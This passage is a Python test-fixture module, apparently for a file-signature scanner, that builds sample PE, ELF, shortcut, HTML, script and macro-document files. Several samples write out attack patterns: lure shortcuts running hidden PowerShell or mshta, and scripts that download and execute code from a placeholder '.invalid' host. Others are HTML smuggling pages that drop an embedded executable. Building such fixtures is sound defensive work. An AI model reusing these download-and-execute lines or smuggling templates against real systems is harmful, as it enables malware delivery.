"""Real sample files for the file-signature tests, built from their format specifications.

Every function returns the bytes of one file. Nothing here is malicious: executables do nothing
(or exit), macros show a message box, scripts and shortcuts point at the reserved `.invalid`
domain. What matters is that each sample has the *structure* a real file of its kind has, so a
rule that matches it would also match the real thing, and a rule that does not match a clean
sample would not fire on a real clean file either.

Formats and their references:

* PE: Microsoft PE/COFF specification (DOS header, `PE\\0\\0`, COFF header, PE32+ optional
  header, one section).
* ELF: System V ABI (ELF64 header and one PT_LOAD program header; a runnable `exit(0)`).
* LNK: [MS-SHLLINK] (ShellLinkHeader, LinkInfo, StringData, TerminalBlock).
* OLE2 / CFB: [MS-CFB] version 3 (FAT, mini stream, red-black directory tree).
* VBA project: [MS-OVBA] (`_VBA_PROJECT`, `dir` records, compressed module source, `PROJECT`,
  `PROJECTwm`).
* OOXML: ECMA-376 Open Packaging Conventions (`zipfile`).
* ISO 9660: ECMA-119 (system area, primary volume descriptor, terminator, path tables, root
  directory, files).
* UDF: ECMA-167 volume recognition sequence only (`BEA01`, `NSR02`, `TEA01`).
* OneNote: [MS-ONESTORE] file header GUID and one FileDataStoreObject (an embedded file); not a
  complete section file.
* CHM: ITSF header only.
* PNG: RFC 2083 / ISO 15948 (IHDR, IDAT, IEND with CRCs). PDF: ISO 32000 (with a correct xref).
"""

from __future__ import annotations

import base64
import io
import struct
import uuid
import zipfile
import zlib
from collections.abc import Mapping
from typing import TypeAlias

# --------------------------------------------------------------------------------------------
# EICAR
# --------------------------------------------------------------------------------------------

# Written with an escaped backslash so this source file itself does not contain the test string
# (some endpoint scanners flag it anywhere in a file).
_EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def eicar() -> bytes:
    """The 68-byte EICAR anti-malware test file.

    >>> len(eicar())
    68
    """
    return _EICAR.encode("ascii")


# --------------------------------------------------------------------------------------------
# Native executables
# --------------------------------------------------------------------------------------------

DOS_STUB_MESSAGE = b"This program cannot be run in DOS mode.\r\r\n$"


def pe(*, machine: int = 0x8664, subsystem: int = 2) -> bytes:
    """A minimal valid PE32+ image: DOS header and stub, `PE\\0\\0`, COFF header, optional header
    with 16 data directories, one `.text` section holding `xor eax, eax; ret`.

    >>> data = pe()
    >>> data[:2], data[0x80:0x84]
    (b'MZ', b'PE\\x00\\x00')
    """
    e_lfanew = 0x80
    file_alignment = 0x200
    # DOS header (64 bytes): e_magic .. e_lfanew, the values a linker writes.
    dos = struct.pack(
        "<2s13H8x2H20xI",
        b"MZ", 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x40, 0,
        0, 0,
        e_lfanew,
    )
    stub_code = bytes.fromhex("0E1FBA0E00B409CD21B8014CCD21")
    stub = (stub_code + DOS_STUB_MESSAGE).ljust(e_lfanew - len(dos), b"\0")
    optional_size = 112 + 16 * 8
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", machine, 1, 0, 0, 0, optional_size, 0x0022)
    optional = struct.pack(
        "<HBBIIIIIQIIHHHHHHIIIIHHQQQQII",
        0x20B,  # PE32+
        14, 0,  # linker version
        file_alignment, 0, 0,  # size of code / initialised / uninitialised data
        0x1000, 0x1000,  # entry point, base of code
        0x140000000,  # image base
        0x1000, file_alignment,  # section / file alignment
        6, 0, 0, 0, 6, 0,  # OS, image, subsystem versions
        0,  # Win32VersionValue
        0x2000, file_alignment,  # size of image, size of headers
        0,  # checksum
        subsystem, 0x8160,  # subsystem, DllCharacteristics (NX, dynamic base, high entropy VA)
        0x100000, 0x1000, 0x100000, 0x1000,  # stack / heap reserve and commit
        0, 16,  # loader flags, number of data directories
    ) + bytes(16 * 8)
    section = struct.pack(
        "<8sIIIIIIHHI", b".text", 3, 0x1000, file_alignment, file_alignment, 0, 0, 0, 0,
        0x60000020,  # code, execute, read
    )
    headers = (dos + stub + coff + optional + section).ljust(file_alignment, b"\0")
    text = b"\x31\xc0\xc3".ljust(file_alignment, b"\0")  # xor eax, eax; ret
    return headers + text


# An Authenticode signature (WIN_CERTIFICATE, PKCS#7 SignedData) over exactly `pe()`, made once
# with `osslsigncode sign -h sha256` and a throw-away self-signed certificate
# "CN=MeetGuard Test Code Signing, O=MeetGuard tests" whose private key was discarded. It stays
# valid only while `pe()` builds the same bytes (tests check the pe module reports it verified).
_PE_AUTHENTICODE = base64.b64decode(
    "UAYAAAACAgAwggZDBgkqhkiG9w0BBwKgggY0MIIGMAIBATEPMA0GCWCGSAFlAwQCAQUAMHkGCisG"
    "AQQBgjcCAQSgazBpMDQGCisGAQQBgjcCAQ8wJgMCB4CgIKIegBwAPAA8ADwATwBiAHMAbwBsAGUA"
    "dABlAD4APgA+MDEwDQYJYIZIAWUDBAIBBQAEIPZkX/uQLCf5ojolnUS42LFW1mWzesoDtWb38GoN"
    "fTmXoIIDZzCCA2MwggJLoAMCAQICFFG/OzPjUQXmsoxD5WDclt7bZDI4MA0GCSqGSIb3DQEBCwUA"
    "MEAxJDAiBgNVBAMMG01lZXRHdWFyZCBUZXN0IENvZGUgU2lnbmluZzEYMBYGA1UECgwPTWVldEd1"
    "YXJkIHRlc3RzMCAXDTI2MTEyNTExMTg0MFoYDzIxMjYxMTAxMTExODQwWjBAMSQwIgYDVQQDDBtN"
    "ZWV0R3VhcmQgVGVzdCBDb2RlIFNpZ25pbmcxGDAWBgNVBAoMD01lZXRHdWFyZCB0ZXN0czCCASIw"
    "DQYJKoZIhvcNAQEBBQADggEPADCCAQoCggEBAPDukPSVMiOSup4t+FH3nHVqwg1wHHP60dfwYhkW"
    "HlGY8qy4IP01mCQFPMkJU+l8xlP9u4QTjz0byAcPmr5cSyvNwqrbt80jfLQXoPACUcQsLRAi42y1"
    "2TY6A0ryYv/LRd/scFaXJILc3QELy0EXFGT6IFFhuYA6mw3ejKYiIsZwjp7e5VNYL1lQFEExreBu"
    "e1j3Uqo4pe52a1/r1DjkFS2PrxJa7VEvOc7dLzYU739zNW+IvYlUgxemGqWog8RTZaeo82tqJV9j"
    "0xbd8WRMrKb9Whm21X3n+fVe+muoiWJ32R5rpLRBx+hPqRF/hjL5ieA1H87x+YPT83XsLTVaPVcC"
    "AwEAAaNTMFEwHQYDVR0OBBYEFL4ggF5gc5xKYi2hQHr4Go1tv0ZaMB8GA1UdIwQYMBaAFL4ggF5g"
    "c5xKYi2hQHr4Go1tv0ZaMA8GA1UdEwEB/wQFMAMBAf8wDQYJKoZIhvcNAQELBQADggEBADuGAV8a"
    "UcEUuYFnHXgh4xgr9qmbImdzTkw37rXcnHUKDs33QeSQJ6E+rdbk2Id+NGmxlcZSKvsitnixyQmL"
    "m7aGFbm5iG1n0zekoMj05l+70rDjiW6VruJaGcEuK9o15MfgYgRSP+EyvJvPVDz1QCxmVZDGTXfR"
    "idYLJqtMU1iwdzbUljUSduVUAk5yCai+7aWlLOC5a/pzZ0LeqGy56SA7L/JEPlsDGoa/UJgsszDW"
    "mwkZjvSoVPn1Qp1nJY6vxHPFpvWh8x11CNxw+iPFU9UhekqT6Sl5R0ECOffseszuaYcv38zEuazb"
    "UlpXYpXIbTgY0Me+m1CihjZlEyF2Zi0xggIyMIICLgIBATBYMEAxJDAiBgNVBAMMG01lZXRHdWFy"
    "ZCBUZXN0IENvZGUgU2lnbmluZzEYMBYGA1UECgwPTWVldEd1YXJkIHRlc3RzAhRRvzsz41EF5rKM"
    "Q+Vg3Jbe22QyODANBglghkgBZQMEAgEFAKCBrDAZBgkqhkiG9w0BCQMxDAYKKwYBBAGCNwIBBDAc"
    "BgkqhkiG9w0BCQUxDxcNMjYxMTI1MTExODQyWjAcBgorBgEEAYI3AgELMQ4wDAYKKwYBBAGCNwIB"
    "FTAiBgorBgEEAYI3AgEMMRQwEqAQgQ5NZWV0aW5nIGNsaWVudDAvBgkqhkiG9w0BCQQxIgQgUHyv"
    "gWJanaJ3MrxKrLmktRMgoTXrrVJBdvhK2CamuOEwDQYJKoZIhvcNAQEBBQAEggEAmSzWl48kRT9o"
    "i4MtFbw957j7p5J5FkGgT3Gor7uidKZ2C58SsR1ONm/0vzbRxjwQIdCktGtqiXsN4tiv1xsuOwma"
    "EcHtmVrLa1+UJEMbSOMKYiMhlj2Vh2yLDo5Xe/YytYGmzhscJJJco6Eg5qvSY+/E3Xup1f6N+FHP"
    "uaohduubzTMuMEfAqi7BuqY3EEhlXmSg5tiQuFBl19W6fW3F+0hawq0o44NqGQL0DTTbKi6G0W8n"
    "tfLYbC76SRNtmlP8sbYk22N66M1lFH3vy2fEUKOEqByZIcbdhTOEtjCSMZ2USMouCSj045yO8DsJ"
    "k2Uy9lnG1hZXhwuh6w0aat3g6QA="
)


def signed_pe() -> bytes:
    """`pe()` carrying an Authenticode signature: the certificate table appended at the end of
    the file and data directory 4 (IMAGE_DIRECTORY_ENTRY_SECURITY) pointing at it."""
    image = bytearray(pe())
    security_directory = 0x80 + 24 + 112 + 4 * 8
    struct.pack_into("<II", image, security_directory, len(image), len(_PE_AUTHENTICODE))
    return bytes(image) + _PE_AUTHENTICODE


def elf() -> bytes:
    """A runnable ELF64 x86-64 executable that calls `exit(0)`.

    >>> elf()[:4]
    b'\\x7fELF'
    """
    base = 0x400000
    code = bytes.fromhex("b83c000000" "31ff" "0f05")  # mov eax, 60; xor edi, edi; syscall
    header_size, phdr_size = 64, 56
    entry = base + header_size + phdr_size
    total = header_size + phdr_size + len(code)
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header = ident + struct.pack(
        "<HHIQQQIHHHHHH", 2, 0x3E, 1, entry, header_size, 0, 0, header_size, phdr_size, 1,
        64, 0, 0,
    )
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, total, total, 0x1000)
    return header + phdr + code


def macho() -> bytes:
    """A 64-bit Mach-O executable header (`MH_EXECUTE`, x86-64) with no load commands."""
    return struct.pack("<IiiIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0, 0)


def macho_universal() -> bytes:
    """A universal ("fat") Mach-O: big-endian fat header, one fat_arch, the x86-64 image."""
    image = macho()
    offset = 0x1000
    header = struct.pack(">II", 0xCAFEBABE, 1) + struct.pack(
        ">iiIII", 0x01000007, 3, offset, len(image), 12,
    )
    return header.ljust(offset, b"\0") + image


def java_class() -> bytes:
    """A Java class file header: the same magic as a universal Mach-O, then minor/major version
    (Java 17 = 61) and an empty constant pool count."""
    return struct.pack(">IHHH", 0xCAFEBABE, 0, 61, 1)


# --------------------------------------------------------------------------------------------
# Windows shortcut (MS-SHLLINK)
# --------------------------------------------------------------------------------------------

LNK_CLSID = uuid.UUID("00021401-0000-0000-C000-000000000046").bytes_le

SW_SHOWNORMAL = 1
SW_SHOWMINNOACTIVE = 7


def _lnk_string(text: str) -> bytes:
    return struct.pack("<H", len(text)) + text.encode("utf-16-le")


def _link_info(local_base_path: str) -> bytes:
    """LinkInfo with VolumeID (fixed drive) and an ANSI LocalBasePath."""
    volume_label = b"Windows\0"
    volume_id = struct.pack("<IIII", 16 + len(volume_label), 3, 0x1234ABCD, 16) + volume_label
    header_size = 0x1C
    volume_offset = header_size
    base_offset = volume_offset + len(volume_id)
    base = local_base_path.encode("cp1252") + b"\0"
    suffix_offset = base_offset + len(base)
    size = suffix_offset + 1
    return struct.pack(
        "<IIIIIII", size, header_size, 0x1, volume_offset, base_offset, 0, suffix_offset,
    ) + volume_id + base + b"\0"


def lnk(
    *,
    target: str | None = None,
    relative_path: str | None = None,
    arguments: str | None = None,
    working_dir: str | None = None,
    icon: str | None = None,
    name: str | None = None,
    show_command: int = SW_SHOWNORMAL,
) -> bytes:
    """A Windows shortcut per [MS-SHLLINK] without a LinkTargetIDList.

    `target` goes into LinkInfo's LocalBasePath (ANSI); the other strings go into StringData
    (UTF-16LE, `IsUnicode` set), as Explorer writes them.

    >>> data = lnk(relative_path="..\\\\x.exe")
    >>> data[:4], len(data) > 0x4C
    (b'L\\x00\\x00\\x00', True)
    """
    flags = 0x80  # IsUnicode
    body = b""
    if target is not None:
        flags |= 0x02  # HasLinkInfo
        body += _link_info(target)
    for flag, value in (
        (0x04, name),
        (0x08, relative_path),
        (0x10, working_dir),
        (0x20, arguments),
        (0x40, icon),
    ):
        if value is not None:
            flags |= flag
            body += _lnk_string(value)
    header = struct.pack(
        "<I16sIIQQQIiIHHII",
        0x4C, LNK_CLSID, flags,
        0x20,  # FILE_ATTRIBUTE_ARCHIVE
        0, 0, 0,  # creation, access, write times
        0, 0,  # file size, icon index
        show_command,
        0, 0, 0, 0,  # hot key, reserved
    )
    return header + body + b"\0\0\0\0"  # TerminalBlock


def lnk_cmd_unicode() -> bytes:
    """A lure shortcut: `cmd.exe /c` running hidden PowerShell, all strings in UTF-16LE."""
    return lnk(
        relative_path="..\\..\\..\\..\\Windows\\System32\\cmd.exe",
        arguments=(
            "/c start \"\" agenda.pdf & powershell -nop -w hidden -c "
            "\"iwr https://meeting-update.invalid/a.ps1 -OutFile $env:TEMP\\a.ps1\""
        ),
        icon="%SystemRoot%\\System32\\imageres.dll",
        name="Meeting agenda",
        show_command=SW_SHOWMINNOACTIVE,
    )


def lnk_cmd_ansi() -> bytes:
    """A shortcut whose target `C:\\WINDOWS\\system32\\CMD.EXE` is in LinkInfo (ANSI, in the
    case Windows often records), showing its window normally, with a plain `/c` command line."""
    return lnk(
        target="C:\\WINDOWS\\system32\\CMD.EXE",
        arguments="/c dir C:\\Users\\Public",
        working_dir="C:\\Windows\\System32",
    )


def lnk_cmd_minimised() -> bytes:
    """A shortcut to cmd.exe with a harmless-looking command that starts minimised
    (SW_SHOWMINNOACTIVE), so the user never sees the console."""
    return lnk(
        relative_path="..\\..\\Windows\\System32\\cmd.exe",
        arguments="/c start agenda.pdf & agenda.pdf:payload.cmd",
        show_command=SW_SHOWMINNOACTIVE,
    )


def lnk_mshta_url() -> bytes:
    """A shortcut launching `mshta.exe` with a remote HTA (Unicode strings only)."""
    return lnk(
        relative_path="..\\..\\Windows\\System32\\mshta.exe",
        arguments="https://meeting-update.invalid/invite.hta",
        icon="C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    )


def lnk_word_document() -> bytes:
    """A benign shortcut that opens a document in Word."""
    return lnk(
        target="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        arguments="\"C:\\Users\\Public\\Documents\\Meeting agenda.docx\"",
        working_dir="C:\\Users\\Public\\Documents",
    )


# --------------------------------------------------------------------------------------------
# HTML
# --------------------------------------------------------------------------------------------


def html_smuggling(payload: bytes | None = None, filename: str = "Invitation.iso") -> bytes:
    """An HTML smuggling attachment: base64 → `atob` → `Uint8Array` → `new Blob` →
    `URL.createObjectURL` → hidden `<a download>` → `click()`."""
    b64 = base64.b64encode(pe() if payload is None else payload).decode("ascii")
    return f"""<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Meeting invitation</title></head>
<body>
<p>Your meeting invitation is downloading&hellip;</p>
<script>
  var data = "{b64}";
  var raw = window.atob(data);
  var bytes = new Uint8Array(raw.length);
  for (var i = 0; i < raw.length; i++) {{ bytes[i] = raw.charCodeAt(i); }}
  var blob = new Blob([bytes], {{type: "application/octet-stream"}});
  var a = document.createElement("a");
  a.style.display = "none";
  a.href = window.URL.createObjectURL(blob);
  a.download = "{filename}";
  document.body.appendChild(a);
  a.click();
</script>
</body>
</html>
""".encode()


def html_smuggling_mssave() -> bytes:
    """Smuggling variant: bytes as a numeric array and the old Edge/IE `msSaveOrOpenBlob`."""
    numbers = ",".join(str(b) for b in pe()[:256])
    return f"""<html><body onload="go()">
<script type="text/javascript">
function go() {{
  var b = new Blob([new Uint8Array([{numbers}])], {{type: "application/x-msdownload"}});
  if (window.navigator.msSaveOrOpenBlob) {{
    window.navigator.msSaveOrOpenBlob(b, "Zoom_Meeting.exe");
  }}
}}
</script>
</body></html>
""".encode()


def html_clean_download_link() -> bytes:
    """A normal page with a plain `<a href download>` link and some ordinary script."""
    return b"""<!DOCTYPE html>
<html lang="vi">
<head><meta charset="utf-8"><title>H\xe1\xbb\x8dp giao ban</title>
<script>document.addEventListener("DOMContentLoaded", function () {
  document.getElementById("year").textContent = new Date().getFullYear();
});</script></head>
<body>
<h1>Meeting agenda</h1>
<p><a href="/files/agenda.pdf" download="agenda.pdf">Download the agenda (PDF)</a></p>
<footer>&copy; <span id="year"></span></footer>
</body>
</html>
"""


def html_clean_csv_export() -> bytes:
    """A page that exports a table as CSV through a Blob and a download link (no decoding of an
    embedded payload): the everyday legitimate use of Blob downloads."""
    return b"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Attendance</title></head>
<body>
<table id="t"><tr><td>Name</td><td>Unit</td></tr></table>
<button id="export">Export CSV</button>
<script>
document.getElementById("export").addEventListener("click", function () {
  var rows = Array.from(document.querySelectorAll("#t tr")).map(function (tr) {
    return Array.from(tr.cells).map(function (td) { return td.textContent; }).join(",");
  });
  var blob = new Blob([rows.join("\\n")], {type: "text/csv"});
  var a = document.createElement("a");
  a.href = URL.createObjectURL(blob);
  a.download = "attendance.csv";
  a.click();
});
</script>
</body></html>
"""


# --------------------------------------------------------------------------------------------
# Scripts
# --------------------------------------------------------------------------------------------


def hta() -> bytes:
    """An HTML Application that would run a command through WScript.Shell."""
    return b"""<html><head>
<HTA:APPLICATION ID="invite" WINDOWSTATE="minimize" SHOWINTASKBAR="no">
<script language="VBScript">
  Set sh = CreateObject("WScript.Shell")
  sh.Run "cmd /c echo harmless", 0
  window.close()
</script></head><body></body></html>
"""


def vbscript() -> bytes:
    return b"""Set sh = CreateObject("WScript.Shell")
sh.Run "powershell -nop -w hidden -c echo harmless", 0, False
"""


def jscript() -> bytes:
    return b"""var sh = new ActiveXObject("WScript.Shell");
sh.Run("cmd /c echo harmless", 0, false);
"""


def powershell_utf16() -> bytes:
    """A PowerShell script saved as "Unicode" (UTF-16LE with a byte-order mark)."""
    text = (
        "$c = (New-Object Net.WebClient).DownloadString('https://meeting-update.invalid/a')\r\n"
        "Invoke-Expression $c\r\n"
    )
    return b"\xff\xfe" + text.encode("utf-16-le")


def batch() -> bytes:
    return (
        b"@echo off\r\n"
        b'start "" agenda.pdf\r\n'
        b"curl -s https://meeting-update.invalid/x -o %TEMP%\\x.exe\r\n"
    )


def plain_text_notes() -> bytes:
    """Ordinary text that talks about scripts without being one."""
    return (
        b"Meeting notes\n"
        b"- IT reminded everyone never to run PowerShell or cmd commands sent by email.\n"
        b"- Next meeting on Vmeet, room password shared by phone only.\n"
    )


# --------------------------------------------------------------------------------------------
# Compound File Binary (MS-CFB) and VBA projects (MS-OVBA)
# --------------------------------------------------------------------------------------------

Tree: TypeAlias = "Mapping[str, bytes | Tree]"

_SECTOR = 512
_MINI = 64
_CUTOFF = 4096
_FREE, _ENDOFCHAIN, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF

WORD_DOCUMENT_CLSID = uuid.UUID("00020906-0000-0000-C000-000000000046").bytes_le


class _Entry:
    def __init__(self, name: str, kind: int, data: bytes = b"") -> None:
        self.name, self.kind, self.data = name, kind, data
        self.left = self.right = self.child = _NOSTREAM
        self.color = 1  # black
        self.start = _ENDOFCHAIN
        self.size = 0
        self.clsid = bytes(16)


def _cfb_key(name: str) -> tuple[int, str]:
    return (len(name), name.upper())


def _build_rb_tree(entries: list[_Entry], ids: list[int]) -> int:
    """Link sibling ids (already sorted) into a balanced red-black tree; return the root id.

    A balanced tree built from the middle has all empty leaves at depth h or h+1: the nodes of
    the last, partial level are coloured red and every other node black.
    """
    def depth_of_tree(n: int) -> int:
        return n.bit_length()  # levels of a balanced tree of n nodes

    full_levels = depth_of_tree(len(ids))
    perfect = len(ids) == (1 << full_levels) - 1

    def build(lo: int, hi: int, depth: int) -> int:
        if lo >= hi:
            return _NOSTREAM
        mid = (lo + hi) // 2
        node = entries[ids[mid]]
        node.left = build(lo, mid, depth + 1)
        node.right = build(mid + 1, hi, depth + 1)
        node.color = 0 if (not perfect and depth == full_levels - 1) else 1
        return ids[mid]

    return build(0, len(ids), 0)


def _chain(start: int, count: int) -> list[tuple[int, int]]:
    return [(start + i, start + i + 1 if i + 1 < count else _ENDOFCHAIN) for i in range(count)]


def compound_file(tree: Tree, *, root_clsid: bytes = bytes(16)) -> bytes:
    """Serialise a tree of storages (dicts) and streams (bytes) as a version 3 compound file.

    Streams under 4096 bytes live in the mini stream, larger ones in regular sectors; the
    directory is a red-black tree per storage, ordered as [MS-CFB] 2.6.4 requires.
    """
    entries = [_Entry("Root Entry", 5)]
    entries[0].clsid = root_clsid

    def add(storage_id: int, children: Tree) -> None:
        ids = []
        for name, value in children.items():
            if len(name) > 31:
                raise ValueError(f"CFB names have at most 31 characters: {name!r}")
            if isinstance(value, bytes):
                entries.append(_Entry(name, 2, value))
            else:
                entries.append(_Entry(name, 1))
            ids.append(len(entries) - 1)
            if not isinstance(value, bytes):
                add(ids[-1], value)
        ids.sort(key=lambda i: _cfb_key(entries[i].name))
        entries[storage_id].child = _build_rb_tree(entries, ids)

    add(0, tree)

    # Mini stream: small streams, each rounded up to whole 64-byte mini sectors.
    mini = bytearray()
    minifat: list[int] = []
    for entry in entries:
        if entry.kind == 2 and 0 < len(entry.data) < _CUTOFF:
            first = len(mini) // _MINI
            count = -(-len(entry.data) // _MINI)
            mini += entry.data.ljust(count * _MINI, b"\0")
            minifat += [n for _, n in _chain(first, count)]
            entry.start, entry.size = first, len(entry.data)

    sectors: list[bytes] = []
    fat: dict[int, int] = {}

    def place(data: bytes) -> int:
        if not data:
            return _ENDOFCHAIN
        first = len(sectors)
        count = -(-len(data) // _SECTOR)
        padded = data.ljust(count * _SECTOR, b"\0")
        sectors.extend(padded[i * _SECTOR : (i + 1) * _SECTOR] for i in range(count))
        fat.update(_chain(first, count))
        return first

    for entry in entries:
        if entry.kind == 2 and len(entry.data) >= _CUTOFF:
            entry.start, entry.size = place(entry.data), len(entry.data)
    entries[0].start, entries[0].size = place(bytes(mini)), len(mini)
    minifat_bytes = struct.pack(f"<{len(minifat)}I", *minifat) if minifat else b""
    if minifat_bytes:
        minifat_bytes = minifat_bytes.ljust(-(-len(minifat_bytes) // _SECTOR) * _SECTOR, b"\xff")
    first_minifat = place(minifat_bytes)

    directory = b""
    for entry in entries:
        name = (entry.name + "\0").encode("utf-16-le")
        directory += struct.pack(
            "<64sHBBIII16sIQQIQ",
            name, len(name), entry.kind, entry.color, entry.left, entry.right, entry.child,
            entry.clsid, 0, 0, 0, entry.start, entry.size,
        )
    while len(directory) % _SECTOR:
        directory += struct.pack("<64sHBBIII16sIQQIQ", b"", 0, 0, 0, *(3 * [_NOSTREAM]),
                                 bytes(16), 0, 0, 0, 0, 0)
    first_dir = place(directory)

    fat_count = 1
    while fat_count * (_SECTOR // 4) < len(sectors) + fat_count:
        fat_count += 1
    if fat_count > 109:
        raise ValueError("sample too large for a header-only DIFAT")
    fat_first = len(sectors)
    for i in range(fat_count):
        fat[fat_first + i] = _FATSECT
    table = [fat.get(i, _FREE) for i in range(fat_count * (_SECTOR // 4))]
    fat_bytes = struct.pack(f"<{len(table)}I", *table)
    sectors.extend(fat_bytes[i * _SECTOR : (i + 1) * _SECTOR] for i in range(fat_count))

    difat = [fat_first + i for i in range(fat_count)] + [_FREE] * (109 - fat_count)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII109I",
        bytes.fromhex("D0CF11E0A1B11AE1"), bytes(16), 0x3E, 3, 0xFFFE, 9, 6, bytes(6),
        0, fat_count, first_dir, 0, _CUTOFF,
        first_minifat, len(minifat_bytes) // _SECTOR, _ENDOFCHAIN, 0,
        *difat,
    )
    return header + b"".join(sectors)


def ovba_compress(data: bytes) -> bytes:
    """[MS-OVBA] 2.4.1 compression using literal tokens only (a valid, if unambitious, encoder):
    full 4096-byte chunks are stored raw, the last one as a compressed chunk of literals."""
    out = bytearray(b"\x01")
    for pos in range(0, len(data), 4096):
        chunk = data[pos : pos + 4096]
        if len(chunk) == 4096:
            out += struct.pack("<H", 0x3000 | 4095) + chunk
            continue
        body = bytearray()
        for i in range(0, len(chunk), 8):
            body += b"\x00" + chunk[i : i + 8]
        if len(body) + 2 > 4098:
            raise ValueError("last chunk too long for literal-only encoding")
        out += struct.pack("<H", 0x8000 | 0x3000 | (len(body) + 2 - 3)) + body
    return bytes(out)


MACRO_SOURCE = (
    'Attribute VB_Name = "ThisDocument"\r\n'
    'Attribute VB_Base = "1Normal.ThisDocument"\r\n'
    "Attribute VB_GlobalNameSpace = False\r\n"
    "Attribute VB_Creatable = False\r\n"
    "Attribute VB_PredeclaredId = True\r\n"
    "Attribute VB_Exposed = True\r\n"
    "Attribute VB_TemplateDerived = True\r\n"
    "Attribute VB_Customizable = True\r\n"
    "Sub AutoOpen()\r\n"
    '    MsgBox "MeetGuard test macro: harmless"\r\n'
    "End Sub\r\n"
)


def _rec(record_id: int, data: bytes) -> bytes:
    return struct.pack("<HI", record_id, len(data)) + data


def _vba_dir(module: str) -> bytes:
    """The `dir` stream records of [MS-OVBA] 2.3.4.2 for a project with one document module."""
    name = b"Project"
    out = b"".join((
        _rec(0x01, struct.pack("<I", 3)),  # PROJECTSYSKIND: 64-bit Windows
        _rec(0x02, struct.pack("<I", 0x409)),  # PROJECTLCID
        _rec(0x14, struct.pack("<I", 0x409)),  # PROJECTLCIDINVOKE
        _rec(0x03, struct.pack("<H", 1252)),  # PROJECTCODEPAGE
        _rec(0x04, name),  # PROJECTNAME
        _rec(0x05, b""), _rec(0x40, b""),  # PROJECTDOCSTRING (+ Unicode)
        _rec(0x06, b""), _rec(0x3D, b""),  # PROJECTHELPFILEPATH (two copies)
        _rec(0x07, struct.pack("<I", 0)),  # PROJECTHELPCONTEXT
        _rec(0x08, struct.pack("<I", 0)),  # PROJECTLIBFLAGS
        struct.pack("<HIIH", 0x09, 4, 0x5A0F3E2B, 0x0013),  # PROJECTVERSION
        _rec(0x0C, b""), _rec(0x3C, b""),  # PROJECTCONSTANTS (+ Unicode)
        # PROJECTREFERENCES: none. PROJECTMODULES:
        _rec(0x0F, struct.pack("<H", 1)),
        _rec(0x13, struct.pack("<H", 0xFFFF)),  # PROJECTCOOKIE
        _rec(0x19, module.encode("cp1252")),  # MODULENAME
        _rec(0x47, module.encode("utf-16-le")),  # MODULENAMEUNICODE
        _rec(0x1A, module.encode("cp1252")), _rec(0x32, module.encode("utf-16-le")),
        _rec(0x1C, b""), _rec(0x48, b""),  # MODULEDOCSTRING
        _rec(0x31, struct.pack("<I", 0)),  # MODULEOFFSET: source starts the stream
        _rec(0x1E, struct.pack("<I", 0)),  # MODULEHELPCONTEXT
        _rec(0x2C, struct.pack("<H", 0xFFFF)),  # MODULECOOKIE
        struct.pack("<HI", 0x22, 0),  # MODULETYPE: document/class module
        struct.pack("<HI", 0x2B, 0),  # module terminator
        struct.pack("<HI", 0x10, 0),  # dir terminator
    ))
    return ovba_compress(out)


def vba_storage(module: str = "ThisDocument", source: str = MACRO_SOURCE) -> dict[str, bytes]:
    """The `VBA` storage: `_VBA_PROJECT` (no performance cache), `dir`, one module stream."""
    return {
        "_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        "dir": _vba_dir(module),
        module: ovba_compress(source.encode("cp1252")),
    }


def _vba_project_streams(module: str = "ThisDocument") -> dict[str, bytes]:
    project = (
        'ID="{3F2A1C11-6B1E-4E1D-9C4A-0A4B3C2D1E0F}"\r\n'
        f"Document={module}/&H00000000\r\n"
        'Name="Project"\r\n'
        'HelpContextID="0"\r\n'
        'VersionCompatible32="393222000"\r\n'
        "\r\n"
        "[Host Extender Info]\r\n"
        "&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n"
    ).encode("cp1252")
    project_wm = module.encode("cp1252") + b"\0" + module.encode("utf-16-le") + b"\0\0" + b"\0\0"
    return {"PROJECT": project, "PROJECTwm": project_wm}


def _word_streams() -> dict[str, bytes]:
    # Placeholders: a real FIB is not needed for signatures and would dwarf the rest.
    return {"WordDocument": bytes(1024), "1Table": bytes(512)}


def ole_doc_with_macros() -> bytes:
    """A Word 97-2003 `.doc` layout with a VBA project in `Macros/VBA` ([MS-CFB] + [MS-OVBA])."""
    tree = {
        **_word_streams(),
        "Macros": {"VBA": vba_storage(), **_vba_project_streams()},
    }
    return compound_file(tree, root_clsid=WORD_DOCUMENT_CLSID)


def ole_doc_clean() -> bytes:
    """The same `.doc` layout without a VBA project."""
    return compound_file(_word_streams(), root_clsid=WORD_DOCUMENT_CLSID)


def vba_project_bin() -> bytes:
    """`vbaProject.bin` as OOXML macro-enabled files carry it: a compound file whose root holds
    the `VBA` storage, `PROJECT` and `PROJECTwm`."""
    return compound_file({"VBA": vba_storage(), **_vba_project_streams()})


# --------------------------------------------------------------------------------------------
# OOXML (zipfile)
# --------------------------------------------------------------------------------------------

_ZIP_DATE = (2024, 5, 1, 9, 0, 0)
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PR = "http://schemas.openxmlformats.org/package/2006/relationships"
_CT = "http://schemas.openxmlformats.org/package/2006/content-types"


def _zip(files: Mapping[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            info = zipfile.ZipInfo(name, date_time=_ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    return buf.getvalue()


def _docx_files(macro: bool) -> dict[str, bytes]:
    main_type = (
        "application/vnd.ms-word.document.macroEnabled.main+xml"
        if macro
